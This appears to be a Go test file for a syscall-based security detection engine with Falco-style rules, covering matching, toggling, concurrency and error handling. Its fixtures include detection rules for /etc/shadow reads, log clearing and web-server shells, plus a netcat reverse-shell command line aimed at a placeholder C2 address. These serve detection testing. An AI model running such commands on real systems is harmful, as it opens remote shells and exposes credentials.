package ruleset

import (
	"errors"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/ttpwatch/ttpwatch/event"
	"github.com/ttpwatch/ttpwatch/ruleset/condition"
)

// testRules builds rules from condition text (no macros), enabled, in order.
func testRules(t testing.TB, defs ...[3]string) []*Rule {
	t.Helper()
	var out []*Rule
	for _, d := range defs {
		n, err := condition.Parse(d[1], 0)
		if err != nil {
			t.Fatalf("%s: %v", d[0], err)
		}
		p, ok := ParsePriority(d[2])
		if !ok {
			t.Fatalf("%s: priority %q", d[0], d[2])
		}
		out = append(out, &Rule{Name: d[0], Condition: d[1], Expanded: n, Priority: p,
			Enabled: true, Source: "syscall", Tags: []string{"test", "prio_" + strings.ToLower(d[2])}})
	}
	return out
}

func engineRules(t testing.TB) []*Rule {
	return testRules(t,
		[3]string{"exec any", "evt.type = execve", "notice"},
		[3]string{"chattr immutable", "evt.type = execve and proc.name = chattr and proc.args contains +i", "warning"},
		[3]string{"shell child", "evt.type = execve and proc.pname in (bash, sh)", "informational"},
		[3]string{"write below tmp", "evt.type in (open, openat) and evt.is_open_write = true and fd.name startswith /tmp", "error"},
		[3]string{"container egress", "evt.type = connect and fd.net = 10.0.0.0/8 and container.id != host", "critical"},
		[3]string{"cat shadow", "proc.name = cat and fd.name = /etc/shadow", "alert"},
		[3]string{"anything by bash", "proc.name = bash", "debug"},
	)
}

func names(ms []Match) []string {
	var out []string
	for _, m := range ms {
		out = append(out, m.Rule.Name)
	}
	return out
}

func process(e *Engine, ev *event.Event) []string {
	var got []Match
	e.Process(ev, func(m Match) { got = append(got, m) })
	return names(got)
}

func TestEngineProcess(t *testing.T) {
	e, err := NewEngine(engineRules(t), DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	evs := testEvents()
	tests := []struct {
		ev   string
		want []string
	}{
		{"exec", []string{"exec any", "chattr immutable", "shell child"}},
		{"open", []string{"write below tmp", "anything by bash"}},
		{"openro", []string{"anything by bash"}},
		{"connect", []string{"container egress"}},
		{"connect6", nil},
		{"noproc", nil},
	}
	for _, tt := range tests {
		if got := process(e, evs[tt.ev]); !slices.Equal(got, tt.want) {
			t.Errorf("%s: matched %q, want %q", tt.ev, got, tt.want)
		}
	}
	hits := map[string]uint64{}
	for _, rs := range e.Rules() {
		hits[rs.Rule.Name] = rs.Hits
		if rs.Program == nil || !rs.Enabled {
			t.Errorf("%s: state %+v", rs.Rule.Name, rs)
		}
	}
	if hits["exec any"] != 1 || hits["anything by bash"] != 2 || hits["cat shadow"] != 0 {
		t.Errorf("hits = %v", hits)
	}
	for _, rs := range e.Rules() {
		if rs.Rule.Name == "container egress" && rs.LastHit != evs["connect"].Time {
			t.Errorf("last hit %d, want %d", rs.LastHit, evs["connect"].Time)
		}
	}
}

func TestEngineMatchFirst(t *testing.T) {
	e, err := NewEngine(engineRules(t), Options{MinPriority: Debug, Matching: MatchFirst})
	if err != nil {
		t.Fatal(err)
	}
	if got := process(e, testEvents()["exec"]); !slices.Equal(got, []string{"exec any"}) {
		t.Errorf("first: %q", got)
	}
	// Disabling the first rule makes the next one in load order first.
	if err := e.SetEnabled("exec any", false); err != nil {
		t.Fatal(err)
	}
	if got := process(e, testEvents()["exec"]); !slices.Equal(got, []string{"chattr immutable"}) {
		t.Errorf("first after disable: %q", got)
	}
}

func TestEngineMinPriority(t *testing.T) {
	e, err := NewEngine(engineRules(t), Options{MinPriority: Warning})
	if err != nil {
		t.Fatal(err)
	}
	if got := process(e, testEvents()["exec"]); !slices.Equal(got, []string{"chattr immutable"}) {
		t.Errorf("min warning: %q", got)
	}
	if e.Enabled("exec any") || !e.Enabled("chattr immutable") {
		t.Error("Enabled does not reflect the minimum priority")
	}
}

func TestEngineToggle(t *testing.T) {
	e, err := NewEngine(engineRules(t), DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	changes := 0
	e.OnChange(func() { changes++ })
	v0 := e.Version()
	if err := e.SetEnabled("no such rule", false); err == nil {
		t.Error("SetEnabled of an unknown rule succeeded")
	}
	if err := e.SetEnabled("exec any", false); err != nil {
		t.Fatal(err)
	}
	if e.Enabled("exec any") || e.Version() == v0 || changes != 1 {
		t.Errorf("disable: enabled=%v version %d→%d changes=%d", e.Enabled("exec any"), v0, e.Version(), changes)
	}
	// Setting the same state again is not a change.
	_ = e.SetEnabled("exec any", false)
	if changes != 1 {
		t.Errorf("no-op toggle notified")
	}
	if got := process(e, testEvents()["exec"]); slices.Contains(got, "exec any") {
		t.Errorf("disabled rule matched: %q", got)
	}
	if n := e.EnableMatching("*tmp*", false); n != 1 || e.Enabled("write below tmp") {
		t.Errorf("EnableMatching glob changed %d", n)
	}
	if n := e.EnableMatching("tag:prio_debug", false); n != 1 || e.Enabled("anything by bash") {
		t.Errorf("EnableMatching tag changed %d", n)
	}
	if got := process(e, testEvents()["open"]); got != nil {
		t.Errorf("open after disabling: %q", got)
	}
	if n := e.EnableMatching("*", true); n != 3 {
		t.Errorf("EnableMatching * re-enabled %d, want 3", n)
	}
	if got := process(e, testEvents()["open"]); len(got) != 2 {
		t.Errorf("open after re-enabling: %q", got)
	}
	if changes != 4 {
		t.Errorf("changes = %d, want 4", changes)
	}
}

func TestEngineNeededTypes(t *testing.T) {
	e, err := NewEngine(engineRules(t), DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	if got := e.NeededTypes(); len(got) != int(event.NumTypes) {
		t.Errorf("with a rule admitting any type: %d types", len(got))
	}
	e.EnableMatching("cat shadow", false)
	e.EnableMatching("anything by bash", false)
	want := []event.Type{event.TypeExecve, event.TypeOpen, event.TypeOpenat, event.TypeConnect}
	slices.Sort(want)
	if got := e.NeededTypes(); !slices.Equal(got, want) {
		t.Errorf("NeededTypes = %v, want %v", got, want)
	}
}

func TestEngineCompileError(t *testing.T) {
	rules := testRules(t, [3]string{"ok", "proc.name = x", "notice"}, [3]string{"bad", "proc.nmae = x", "notice"})
	_, err := NewEngine(rules, DefaultOptions())
	var ce *condition.Error
	if err == nil || !strings.Contains(err.Error(), `rule "bad"`) || !errors.As(err, &ce) {
		t.Errorf("err = %v", err)
	}
	// A rule given only as text is parsed; macros are then undefined.
	_, err = NewEngine([]*Rule{{Name: "m", Condition: "spawned_process", Enabled: true}}, DefaultOptions())
	if err == nil || !strings.Contains(err.Error(), "undefined macro") {
		t.Errorf("err = %v", err)
	}
}

func TestEngineNoAllocs(t *testing.T) {
	e, err := NewEngine(engineRules(t), DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	evs := testEvents()
	matched := 0
	emit := func(Match) { matched++ }
	for _, ev := range evs {
		e.Process(ev, emit)
	}
	allocs := testing.AllocsPerRun(200, func() {
		for _, ev := range evs {
			e.Process(ev, emit)
		}
	})
	if allocs != 0 {
		t.Errorf("Process allocates %v times per run", allocs)
	}
	if matched == 0 {
		t.Error("nothing matched: the test measures nothing")
	}
}

// TestEngineConcurrentToggle runs Process while another goroutine toggles
// rules (meaningful under -race).
func TestEngineConcurrentToggle(t *testing.T) {
	e, err := NewEngine(engineRules(t), DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	evs := testEvents()
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 200; i++ {
			e.EnableMatching("*", i%2 == 0)
			_ = e.Rules()
			_ = e.NeededTypes()
		}
	}()
	for i := 0; i < 2000; i++ {
		for _, ev := range evs {
			e.Process(ev, func(Match) {})
		}
	}
	wg.Wait()
}

func TestCompileFilter(t *testing.T) {
	evs := testEvents()
	f, err := CompileFilter("proc.name in (bash, nc) and not fd.name startswith /etc")
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for k, ev := range evs {
		got[k] = f.Match(ev)
	}
	want := map[string]bool{"exec": false, "open": true, "openro": false, "connect": true, "connect6": true, "noproc": false}
	for k := range want {
		if got[k] != want[k] {
			t.Errorf("%s: %v, want %v", k, got[k], want[k])
		}
	}
	for _, bad := range []string{"proc.name =", "proc.nmae = x", "my_macro", ""} {
		_, err := CompileFilter(bad)
		var ce *condition.Error
		if !errors.As(err, &ce) {
			t.Errorf("CompileFilter(%q) = %v, want *condition.Error", bad, err)
		}
	}
}

// TestEngineGuardsAgree checks, over the benchmark's event mix and both
// rulesets, that the engine (index, guards, shared predicate cache) reports
// exactly the rules whose programs, run alone without guards, match.
func TestEngineGuardsAgree(t *testing.T) {
	defaults, err := LoadDefaults()
	if err != nil {
		t.Fatal(err)
	}
	falco, err := LoadPaths("testdata/engine/falco_style.yaml")
	if err != nil {
		t.Fatal(err)
	}
	evs := eventMix(2048)
	for name, rules := range map[string][]*Rule{"defaults": defaults.Rules, "falco-style": falco.Rules} {
		e, err := NewEngine(rules, DefaultOptions())
		if err != nil {
			t.Fatal(err)
		}
		bare := map[string]*Program{}
		for _, r := range rules {
			p, err := Compile(r.Expanded)
			if err != nil {
				t.Fatal(err)
			}
			p.guards = nil
			bare[r.Name] = p
		}
		first, err := NewEngine(rules, Options{MinPriority: Debug, Matching: MatchFirst})
		if err != nil {
			t.Fatal(err)
		}
		total := 0
		for i, ev := range evs {
			got := map[string]bool{}
			e.Process(ev, func(m Match) { got[m.Rule.Name] = true })
			var gotFirst []string
			first.Process(ev, func(m Match) { gotFirst = append(gotFirst, m.Rule.Name) })
			var wantFirst []string
			for _, r := range rules {
				want := r.Enabled && bare[r.Name].Match(ev)
				if got[r.Name] != want {
					t.Errorf("%s: event %d (%s by %s): engine %v, program alone %v", name, i, ev.Type, ev.Proc.Comm, got[r.Name], want)
				}
				if want {
					total++
					if wantFirst == nil {
						wantFirst = []string{r.Name}
					}
				}
			}
			if !slices.Equal(gotFirst, wantFirst) {
				t.Errorf("%s: event %d: first match %q, want %q", name, i, gotFirst, wantFirst)
			}
		}
		if total == 0 {
			t.Errorf("%s: no rule matched the mix; the comparison shows nothing", name)
		}
	}
}

// TestEngineFalcoStyleRules feeds attack-like events to the Falco-style
// rules of testdata/engine and checks which rules fire.
func TestEngineFalcoStyleRules(t *testing.T) {
	rs, err := LoadPaths("testdata/engine/falco_style.yaml")
	if err != nil {
		t.Fatal(err)
	}
	e, err := NewEngine(rs.Rules, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	_, bash, chattr, nc := testProcs()
	_, _, root, netcat := testProcs()
	root.Uid, root.Euid, root.UserName = 0, 0, "root"
	nginx := &event.Process{Pid: 50, Comm: "nginx", ExePath: "/usr/sbin/nginx", ContainerID: "host", Parent: bash.Parent}
	sh := &event.Process{Pid: 51, Comm: "sh", ExePath: "/bin/sh", Cmdline: "sh -c id", ArgLine: "-c id", ContainerID: "host", Parent: nginx}
	netcat.ArgLine, netcat.Cmdline = "-e /bin/sh 203.0.113.9 4444", "nc -e /bin/sh 203.0.113.9 4444"
	tests := []struct {
		name string
		ev   *event.Event
		want []string
	}{
		{"chattr by alice", &event.Event{Type: event.TypeExecve, Proc: chattr}, []string{"Chattr immutable"}},
		{"chattr by root", &event.Event{Type: event.TypeExecve, Proc: root}, nil},
		{"nc -e", &event.Event{Type: event.TypeExecve, Proc: netcat},
			[]string{"Netcat remote code execution", "Launch suspicious network tool"}},
		{"shell under nginx", &event.Event{Type: event.TypeExecve, Proc: sh}, []string{"Web server spawned shell"}},
		{"truncate a log", &event.Event{Type: event.TypeOpenat, Proc: bash, Fd: 3, Res: 3, Path: "/var/log/auth.log", Flags: 0x1 | 0x200},
			[]string{"Clear log activities"}},
		{"append a log", &event.Event{Type: event.TypeOpenat, Proc: bash, Fd: 3, Res: 3, Path: "/var/log/auth.log", Flags: 0x1 | 0x400}, nil},
		{"write /usr/bin", &event.Event{Type: event.TypeOpenat, Proc: bash, Fd: 3, Res: 3, Path: "/usr/bin/ls", Flags: 0x1},
			[]string{"Write below binary dir"}},
		{"shadow read by bash child", &event.Event{Type: event.TypeOpenat, Proc: chattr, Fd: 3, Res: 3, Path: "/etc/shadow"},
			[]string{"Read sensitive file untrusted", "Shadow file read by shell child"}},
		{"C2 connect", &event.Event{Type: event.TypeConnect, Proc: nc, Fd: 3, Res: -115, Sock: event.Sock{Family: event.AFInet, Type: 1,
			Role: event.RoleClient, Remote: netip.MustParseAddrPort("203.0.113.9:4444")}}, []string{"Outbound connection to C2 port"}},
		{"private connect", &event.Event{Type: event.TypeConnect, Proc: nc, Fd: 3, Res: -115, Sock: event.Sock{Family: event.AFInet, Type: 1,
			Role: event.RoleClient, Remote: netip.MustParseAddrPort("10.1.2.3:4444")}}, nil},
	}
	for _, tt := range tests {
		if got := process(e, tt.ev); !slices.Equal(got, tt.want) {
			t.Errorf("%s: fired %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestEngineSkipsOtherSources(t *testing.T) {
	rules := testRules(t, [3]string{"sys", "proc.name = chattr", "notice"}, [3]string{"k8s", "proc.name = chattr", "notice"})
	rules[1].Source = "k8s_audit"
	e, err := NewEngine(rules, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	if got := process(e, testEvents()["exec"]); !slices.Equal(got, []string{"sys"}) {
		t.Errorf("fired %q", got)
	}
	if len(e.Rules()) != 1 || e.SetEnabled("k8s", true) == nil {
		t.Error("a k8s_audit rule is in the engine")
	}
}

func TestEngineRecoversAccessorPanic(t *testing.T) {
	e, err := NewEngine(engineRules(t), DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	for key, p := range e.env.preds {
		if strings.HasPrefix(key, "proc.args contains") {
			p.slot, p.fn = nil, func() bool { panic("accessor bug") }
		}
	}
	if got := process(e, testEvents()["exec"]); !slices.Equal(got, []string{"exec any"}) {
		t.Errorf("fired %q before the panicking check", got)
	}
	if e.Errors() != 1 {
		t.Errorf("Errors = %d, want 1", e.Errors())
	}
	// The engine keeps working, and a panic in emit is the caller's.
	if got := process(e, testEvents()["open"]); len(got) != 2 {
		t.Errorf("after a panic: %q", got)
	}
	defer func() {
		if r := recover(); r != "caller" {
			t.Errorf("emit panic: recovered %v", r)
		}
	}()
	e.Process(testEvents()["open"], func(Match) { panic("caller") })
}
